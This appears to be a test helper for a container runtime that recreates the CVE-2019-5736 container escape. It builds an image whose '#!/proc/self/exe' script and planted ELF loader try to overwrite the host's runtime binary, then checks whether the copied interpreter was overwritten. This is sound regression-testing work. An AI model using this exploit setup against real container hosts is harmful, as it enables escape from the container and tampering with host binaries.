"""A copy of this Python that a test may lose, and an image whose programs try to write to it (CVE-2019-5736)."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

HERE = Path(__file__).parent
OVERWRITTEN = b"OVERWRITTEN"
SCRIPT = "/bin/again"


def copied(directory: Path) -> Path:
    """The interpreter's file alone; its libraries are where they were."""
    program = directory / "bin" / "python3"
    program.parent.mkdir(parents=True)
    shutil.copy(os.path.realpath(sys.executable), program)
    for name in ("lib", "lib64"):
        if (Path(sys.base_prefix) / name).exists():
            (directory / name).symlink_to(Path(sys.base_prefix) / name)
    return program


def was_overwritten(program: Path) -> bool:
    return program.read_bytes().endswith(OVERWRITTEN)


def attack(image: Path) -> None:
    """Make `SCRIPT` in the image, which has the runtime's interpreter executed, with a loader of the attacker's."""
    loader = image / _loader().lstrip("/")
    loader.parent.mkdir(parents=True, exist_ok=True)
    (image / "bin").mkdir(exist_ok=True)
    free = [
        "-nostdlib",
        "-static-pie",
        "-fPIE",
        "-ffreestanding",
        "-fno-stack-protector",
        "-fno-asynchronous-unwind-tables",
    ]
    subprocess.run(["cc", "-w", "-O1", *free, "-o", loader, HERE / "loader.c"], check=True)
    subprocess.run(["cc", "-w", "-O1", "-static", "-o", image / "bin" / "overwrite", HERE / "overwrite.c"], check=True)
    script = image / SCRIPT.lstrip("/")
    script.write_text("#!/proc/self/exe\n")
    script.chmod(0o755)


def _loader() -> str:
    """What the interpreter's file names as its loader: elf(5), PT_INTERP."""
    content = Path(os.path.realpath(sys.executable)).read_bytes()
    headers, size, count = (
        int.from_bytes(content[at : at + width], "little") for at, width in ((32, 8), (54, 2), (56, 2))
    )
    for header in (content[headers + number * size :][:size] for number in range(count)):
        if int.from_bytes(header[:4], "little") == 3:
            start, length = (int.from_bytes(header[at : at + 8], "little") for at in (8, 32))
            return content[start : start + length].rstrip(b"\0").decode()
    raise AssertionError("this interpreter has no loader")
